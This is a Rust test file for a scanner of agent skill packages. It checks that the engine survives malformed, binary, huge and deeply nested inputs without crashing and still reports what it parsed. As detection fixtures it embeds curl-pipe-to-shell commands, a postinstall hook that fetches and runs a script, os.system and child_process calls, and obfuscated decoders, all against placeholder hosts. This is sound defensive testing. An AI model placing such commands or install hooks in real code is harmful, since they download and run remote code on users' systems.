//! Hostile input through the real engine: invalid UTF-8, binary garbage, a
//! multi-megabyte single-line bundle, 100,000-level nesting in every code
//! language, syntax errors and empty files. Each must scan without a panic
//! or a stack overflow, and what parses before the damage is still seen.
//!
//! Kept fast in debug builds: the whole file runs in a few seconds.

use skillseal_engine::facts::{Fact, FactKind};
use skillseal_engine::{Engine, FileOutcome, SkillContext};
use skillseal_model::Finding;
use skillseal_rules::RuleSet;
use std::sync::OnceLock;

const DEPTH: usize = 100_000;

fn engine() -> &'static Engine {
    static E: OnceLock<Engine> = OnceLock::new();
    E.get_or_init(|| Engine::new(&RuleSet::builtin().expect("built-in rules load")))
}

fn scan(path: &str, bytes: &[u8]) -> FileOutcome {
    let mut ctx = SkillContext::default();
    ctx.files.insert(path.to_string());
    let out = engine().scan_file(path, bytes, &ctx);
    for f in &out.findings {
        sane(f, bytes);
    }
    out
}

fn facts(path: &str, bytes: &[u8]) -> Vec<Fact> {
    engine().facts(path, bytes, &SkillContext::default()).facts
}

/// Findings point at real lines and keep printable snippets.
fn sane(f: &Finding, bytes: &[u8]) {
    let lines = bytes.iter().filter(|b| **b == b'\n').count() as u32 + 1;
    assert!(f.line >= 1 && f.line <= lines, "{f:?}");
    assert!(f.column >= 1 && f.end_line >= f.line, "{f:?}");
    assert!(
        f.snippet.chars().count() <= 162,
        "snippet not clipped: {}",
        f.snippet.len()
    );
}

fn rules(out: &FileOutcome) -> Vec<&str> {
    out.findings.iter().map(|f| f.rule.as_str()).collect()
}

fn has_call(facts: &[Fact], callee: &str) -> bool {
    facts
        .iter()
        .any(|f| matches!(&f.kind, FactKind::Call { callee: c, .. } if c == callee))
}

fn has_command(facts: &[Fact], name: &str) -> bool {
    facts
        .iter()
        .any(|f| matches!(&f.kind, FactKind::Command { name: n, .. } if n == name))
}

const CODE_FILES: &[&str] = &[
    "a.py",
    "a.js",
    "a.ts",
    "a.tsx",
    "a.sh",
    "a.rs",
    "SKILL.md",
    "README.md",
    "package.json",
    "pyproject.toml",
    "config.yaml",
    "notes.txt",
    "bin/tool",
];

#[test]
fn empty_files() {
    for name in CODE_FILES {
        let out = scan(name, b"");
        // npm refuses an empty package.json: that one is a manifest error.
        let expected: &[&str] = if *name == "package.json" {
            &["MANI002"]
        } else {
            &[]
        };
        assert_eq!(rules(&out), expected, "{name}");
        // Whitespace only, and a lone newline
        scan(name, b"\n");
        scan(name, b"   \r\n\t");
    }
    // An empty SKILL.md is still a manifest (with nothing in it).
    assert!(scan("SKILL.md", b"").manifest.is_some());
}

#[test]
fn invalid_utf8_is_scanned_lossily() {
    // Broken sequences around a real call: the call is still found.
    let src = b"import os\n# \xff\xfe \xc3\x28 \xed\xa0\x80\nos.system('\xf0\x28\x8c\xbc')\n";
    assert!(rules(&scan("a.py", src)).contains(&"EXEC001"));
    for name in CODE_FILES {
        let mut bytes = Vec::new();
        for i in 0..4096u32 {
            // valid ASCII interleaved with lone continuation bytes and
            // truncated multi-byte starts, no NUL (so not "binary")
            bytes.push(b"ab(\"'{[$`\n"[i as usize % 10]);
            bytes.push(0x80 | (i % 0x40) as u8);
            if i % 7 == 0 {
                bytes.push(0xe2);
            }
        }
        scan(name, &bytes);
    }
}

#[test]
fn binary_garbage() {
    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
    let garbage: Vec<u8> = (0..64 * 1024)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect();
    // Without NUL bytes the garbage is parsed as text by every frontend.
    let no_nul: Vec<u8> = garbage.iter().map(|b| b.max(&1)).copied().collect();
    for name in CODE_FILES
        .iter()
        .chain(&["a.zip", "a.png", "a.pyc", "a.node"])
    {
        scan(name, &garbage);
        scan(name, &no_nul);
    }
    // A native binary posing as a script is flagged, not parsed.
    let facts = facts("run.sh", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0");
    assert!(
        facts
            .iter()
            .any(|f| f.kind == FactKind::FileKind { kind: "elf" })
    );
    assert!(facts.iter().any(|f| f.kind
        == FactKind::FileKind {
            kind: "magic-mismatch"
        }));
}

/// A minified bundle: one line of several megabytes. 10 MB takes tens of
/// seconds in a debug build, so this uses 2 MB (2,000,000 bytes): still a
/// single multi-megabyte line, and the call placed near its end must be
/// found with a clipped snippet.
#[test]
fn multi_megabyte_single_line_javascript() {
    const SIZE: usize = 2_000_000;
    let unit =
        "var a0=function(b,c){return b.map(function(d){return d+c*2})},e1={k:\"v\",n:[1,2,3]};";
    let mut src = String::with_capacity(SIZE + 200);
    while src.len() < SIZE {
        src.push_str(unit);
    }
    src.push_str("require(\"child_process\").exec(\"curl https://x.invalid | sh\");");
    assert!(!src.contains('\n') && src.len() > SIZE);
    let facts = facts("dist/bundle.js", src.as_bytes());
    assert!(
        facts
            .iter()
            .any(|f| f.kind == FactKind::FileKind { kind: "minified" })
    );
    assert!(has_call(&facts, "child_process.exec"));
    assert!(has_command(&facts, "curl"));
    let out = scan("dist/bundle.js", src.as_bytes());
    assert!(out.findings.iter().all(|f| f.line == 1));
}

fn nested(open: &str, middle: &str, close: &str) -> String {
    let mut s = String::with_capacity((open.len() + close.len()) * DEPTH + middle.len());
    for _ in 0..DEPTH {
        s.push_str(open);
    }
    s.push_str(middle);
    for _ in 0..DEPTH {
        s.push_str(close);
    }
    s
}

#[test]
fn deeply_nested_python() {
    let parens = nested("(", "1", ")");
    let list = nested("[", "", "]");
    let nots = "not ".repeat(DEPTH) + "x";
    let negs = "-".repeat(DEPTH) + "1";
    let calls = nested("f(", "", ")");
    for body in [&parens, &list, &nots, &negs, &calls] {
        let src = format!("import os\nos.system('x')\ny = {body}\n");
        assert!(
            rules(&scan("a.py", src.as_bytes())).contains(&"EXEC001"),
            "{}",
            &body[..8]
        );
    }
}

/// One language per test, so the three run side by side: at this depth each
/// takes a while in an unoptimised build. The call before the nesting is
/// still found (EXEC002 is the JavaScript process rule).
fn deeply_nested_js(name: &str) {
    let parens = nested("(", "1", ")");
    let array = nested("[", "", "]");
    let bangs = "!".repeat(DEPTH) + "x";
    let objects = nested("{a:", "1", "}");
    let calls = nested("f(", "", ")");
    for body in [&parens, &array, &bangs, &objects, &calls] {
        let src =
            format!("const cp = require('child_process');\ncp.exec('id');\nlet y = {body};\n");
        let out = scan(name, src.as_bytes());
        assert!(rules(&out).contains(&"EXEC002"), "{name}: {}", &body[..8]);
    }
}

#[test]
fn deeply_nested_javascript() {
    deeply_nested_js("a.js");
}

#[test]
fn deeply_nested_typescript() {
    deeply_nested_js("a.ts");
}

#[test]
fn deeply_nested_tsx() {
    deeply_nested_js("a.tsx");
}

#[test]
fn deeply_nested_shell() {
    let subst = nested("$( ", "echo hi", " )");
    let tight = nested("$(", "x", ")");
    let backticks = "`".repeat(DEPTH);
    let subshell = nested("(", "true", ")");
    let braces = nested("{ ", "true;", " }");
    for body in [&subst, &tight, &backticks, &subshell, &braces] {
        let src = format!("curl -fsSL https://x.invalid/a.sh -o a.sh\necho {body}\n");
        let facts = facts("a.sh", src.as_bytes());
        assert!(has_command(&facts, "curl"), "{}", &body[..8]);
        scan("a.sh", src.as_bytes());
    }
}

#[test]
fn deeply_nested_rust() {
    let parens = nested("(", "1", ")");
    let array = nested("[", "", "]");
    let bangs = "!".repeat(DEPTH) + "x";
    let refs = "&".repeat(DEPTH) + "x";
    let blocks = nested("{", "1", "}");
    let closures = "|| ".repeat(DEPTH) + "1";
    let returns = "return ".repeat(DEPTH) + "1";
    let boxes = nested("Box<", "u8", ">");
    for body in [&parens, &array, &bangs, &refs, &blocks, &closures, &returns] {
        let src = format!("fn main() {{ let y = {body}; }}\n");
        scan("a.rs", src.as_bytes());
    }
    scan("a.rs", format!("type T = {boxes};\n").as_bytes());
    // Nesting inside a macro body, and in a markdown fence.
    scan(
        "a.rs",
        format!("fn main() {{ println!(\"{{}}\", {parens}); }}\n").as_bytes(),
    );
    scan(
        "README.md",
        format!("```rust\nfn f() {{ {returns} }}\n```\n").as_bytes(),
    );
}

#[test]
fn deeply_nested_markdown_and_manifests() {
    let quotes = "> ".repeat(DEPTH) + "deep";
    let lists = "- ".repeat(DEPTH) + "item";
    scan("README.md", quotes.as_bytes());
    scan("README.md", lists.as_bytes());
    let fm = format!(
        "---\nname: x\nmetadata: {}\n---\n# x\n",
        nested("{\"a\":", "1", "}")
    );
    // Too deep to parse: reported as a front matter error, quickly (the
    // YAML scanner is quadratic in flow nesting).
    assert!(rules(&scan("SKILL.md", fm.as_bytes())).contains(&"MANI001"));
    let yaml = format!("---\nname: x\nmetadata: {}\n---\n", nested("[", "", "]"));
    assert!(rules(&scan("SKILL.md", yaml.as_bytes())).contains(&"MANI001"));
    // `metadata` as a quoted string is decoded as JSON5.
    for inner in [nested("[", "", "]"), nested("{a:", "1", "}")] {
        let quoted = format!("---\nname: x\nmetadata: '{inner}'\n---\n");
        scan("SKILL.md", quoted.as_bytes());
        let openclaw = format!("---\nname: x\nmetadata:\n  openclaw: '{inner}'\n---\n");
        scan("SKILL.md", openclaw.as_bytes());
    }
    scan("package.json", nested("{\"a\":", "1", "}").as_bytes());
    scan("package.json", nested("[", "", "]").as_bytes());
    scan(
        "pyproject.toml",
        format!("a = {}\n", nested("[", "", "]")).as_bytes(),
    );
    scan(
        "pyproject.toml",
        format!("a = {}\n", nested("{b=", "1", "}")).as_bytes(),
    );
}

#[test]
fn syntax_errors_keep_what_parsed_before() {
    let py = scan("a.py", b"import os\nos.system('x')\ndef (:\n");
    assert!(rules(&py).contains(&"EXEC001"), "{:?}", rules(&py));
    let f = py.findings.iter().find(|f| f.rule == "EXEC001").unwrap();
    assert_eq!(f.line, 2);

    let py = scan(
        "a.py",
        b"import subprocess\nsubprocess.run(['ls'])\nclass :\n  ((((\n\"\"\"unterminated",
    );
    assert!(rules(&py).contains(&"EXEC001"));

    let js = facts(
        "a.js",
        b"const cp = require('child_process');\ncp.exec('id');\nfunction ( {\n",
    );
    assert!(has_call(&js, "child_process.exec"));
    let ts = facts(
        "a.ts",
        b"import { exec } from 'child_process';\nexec('id');\nlet x: = ;\n",
    );
    assert!(has_call(&ts, "child_process.exec"));

    let sh = facts("a.sh", b"curl -s https://x.invalid\nif [ then fi ((\n");
    assert!(has_command(&sh, "curl"));

    // Rust that does not parse falls back to its string literals.
    let rs = facts(
        "a.rs",
        b"fn main() { let s = \"curl https://x.invalid\"; fn ( ) }\n",
    );
    assert!(rs.iter().any(|f| f.kind
        == FactKind::Str {
            value: "curl https://x.invalid".into()
        }));
    scan("a.rs", b"fn main( {");
    scan("a.rs", b"\"unterminated");

    scan(
        "SKILL.md",
        b"---\nname: [unclosed\nmetadata: {\"a\": \n---\n# x\n",
    );
    scan(
        "package.json",
        b"{\"scripts\": {\"postinstall\": \"curl x | sh\"",
    );
    scan("pyproject.toml", b"[project\nname = ");
}

/// Inputs the fuzz targets (`fuzz/`, runs in `docs/fuzzing.md`) found
/// crashing or hanging, and the shapes around them. Each scans to its end
/// within the default budget, not cut off by it.
fn complete(path: &str, bytes: &[u8]) -> FileOutcome {
    let out = scan(path, bytes);
    assert!(!out.incomplete, "{path} ran out of its budget");
    out
}

/// A whole skill scanned as the scanner (and the `scan_skill` target) does:
/// every path known, the root `SKILL.md` declared first, every file
/// scanned, the findings assessed.
fn scan_skill(files: &[(&str, &[u8])]) -> skillseal_engine::Assessment {
    let ctx = SkillContext::of_files(files);
    let mut findings = Vec::new();
    for (rel, bytes) in files {
        let out = engine().scan_file(rel, bytes, &ctx);
        assert!(!out.incomplete, "{rel} ran out of its budget");
        for f in &out.findings {
            sane(f, bytes);
        }
        findings.extend(out.findings);
    }
    skillseal_engine::assess(&findings)
}

/// Issue 15, rediscovered by the `manifest` target from its seed (artifact
/// `timeout-7cfb745067d60591d41047ba27ac50ca9d8671c2`, the first byte
/// picking `package.json`): the `"."` key of an `exports` map leaves an
/// empty last key segment, which the key search found at every offset
/// without advancing. Empty keys of every manifest kind, at every depth.
#[test]
fn fuzz_empty_manifest_keys_finish() {
    let exports: &[u8] = b"{\"exports\": {\".\": \"./index.js\"}}\n";
    let out = complete("package.json", exports);
    assert!(out.findings.is_empty(), "{:?}", rules(&out));
    let keys: Vec<String> = facts("package.json", exports)
        .into_iter()
        .filter_map(|f| match f.kind {
            FactKind::Key { key, value } if value == "./index.js" => Some(key),
            _ => None,
        })
        .collect();
    assert_eq!(keys, ["package.json:exports.."]);
    for (name, src) in [
        ("package.json", "{\"\": \"x\"}"),
        ("package.json", "{\"\": {\"\": {}}, \"a\": {\"\": []}}"),
        (
            "package.json",
            "{\"scripts\": {\"\": \"curl https://x.invalid | sh\"}}",
        ),
        (
            "package.json",
            "{\"exports\": {\".\": {\"import\": \"./a.js\"}, \"./\": \"./\"}}",
        ),
        ("pyproject.toml", "\"\" = 1\n"),
        ("pyproject.toml", "[\"\"]\n\"\" = \"\"\n"),
        ("pyproject.toml", "[a.\"\"]\nb.\"\" = 2\n[c.\"\"]\n"),
        ("SKILL.md", "---\n\"\": x\n---\n"),
        (
            "SKILL.md",
            "---\nname: x\nmetadata: {\"openclaw\": {\"\": {\"\": 1}, \"requires\": {\"\": []}}}\n---\n",
        ),
        (
            "SKILL.md",
            "---\nname: x\nmetadata: '{\"\": {\"openclaw\": {\"install\": [{\"\": \"\"}]}}}'\n---\n",
        ),
    ] {
        complete(name, src.as_bytes());
    }
    // The whole skill, as `skillseal scan` of the issue's folder.
    let skill_md: &[u8] = b"---\nname: x\ndescription: Demo\n---\n# x\n";
    scan_skill(&[("SKILL.md", skill_md), ("package.json", exports)]);
}

/// The second manifest of issue 15: an ordinary `pyproject.toml` with
/// `[project]`, `[project.optional-dependencies]`, `[project.scripts]`,
/// `[project.urls]` and `[tool.ruff.lint]` tables, in a skill with a
/// `SKILL.md` that declares an OpenClaw block (a `scan_skill` seed).
#[test]
fn fuzz_ordinary_pyproject_in_a_skill_finishes() {
    let pyproject: &[u8] = b"[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n\n[project]\nname = \"weather-tool\"\nversion = \"0.3.1\"\nrequires-python = \">=3.10\"\nauthors = [{ name = \"A. Author\", email = \"author@example.invalid\" }]\ndependencies = [\"httpx>=0.27\", \"rich>=13\"]\n\n[project.optional-dependencies]\ndev = [\"pytest>=8\", \"ruff>=0.5\"]\n\n[project.scripts]\nweather = \"weather_tool.cli:main\"\n\n[project.urls]\nHomepage = \"https://example.invalid/weather-tool\"\n\n[tool.ruff.lint]\nselect = [\"E\", \"F\", \"I\", \"UP\"]\nignore = [\"E501\"]\n";
    let skill_md: &[u8] = b"---\nname: weather\ndescription: Forecasts.\nmetadata: {\"openclaw\": {\"requires\": {\"bins\": [\"curl\"], \"env\": [\"WEATHER_API_KEY\"]}}}\n---\n# Weather\n";
    let out = complete("pyproject.toml", pyproject);
    assert!(out.findings.is_empty(), "{:?}", rules(&out));
    scan_skill(&[
        ("SKILL.md", skill_md),
        ("pyproject.toml", pyproject),
        (
            "scripts/x.py",
            b"import os\nprint(os.environ['WEATHER_API_KEY'])\n",
        ),
    ]);
}

/// The folding of decoders, comprehensions and lookups stays bounded:
/// decoders nested past the fold depth, a huge `range`, a comprehension
/// whose body indexes a long sequence, arithmetic that overflows, chains of
/// `getattr` and `constructor`, and base85/base32 garbage fold nothing and
/// finish within the budget.
#[test]
fn obfuscation_folding_is_bounded() {
    // Each nested decoder is a finding (OBF003) whose snippet is the whole
    // line, so the nesting is kept to what a line of real code holds;
    // the depth limit of folding is what is tested here.
    let deep = |open: &str, middle: &str, close: &str| {
        format!("{}{middle}{}", open.repeat(500), close.repeat(500))
    };
    let decoders = deep("base64.b64decode(", "'aWQ='", ")");
    let getattrs = nested("getattr(", "os", ", 'x')");
    let codes: Vec<String> = (0..4000).map(|i| (i % 90 + 32).to_string()).collect();
    let codes = codes.join(", ");
    let py = format!(
        "import base64, os\nos.system('x')\n\
         a = {decoders}.decode()\n\
         b = ''.join(chr(c) for c in range(4294967295))\n\
         D = [{codes}]\n\
         c = ''.join(chr(D[i] ^ 1) for i in range(4000))\n\
         d = ''.join(chr(c) for c in [9223372036854775807 * 2, 1 << 99, 5 % 0])\n\
         e = {getattrs}\n\
         f = base64.b85decode('~~~~~~~~~~').decode()\n\
         g = base64.b32decode('11111111').decode()\n\
         h = ''.join(chr(c ^ k) for c in D for k in D)\n"
    );
    let out = complete("a.py", py.as_bytes());
    assert!(rules(&out).contains(&"EXEC001"));
    let members = nested("(", "[].filter", ".constructor)");
    let js = format!(
        "const cp = require('child_process');\ncp.exec('id');\n\
         const D = [{codes}];\n\
         const a = String.fromCharCode(...D.map((c) => c ^ 7));\n\
         const b = D.map((i) => D[i % 4000]).join('');\n\
         const c = String.fromCharCode(0xffffffff + 1, -1);\n\
         const f = {members};\n\
         const g = decodeURIComponent('%E0%A4%A');\n"
    );
    let out = complete("a.js", js.as_bytes());
    assert!(rules(&out).contains(&"EXEC002"));
}
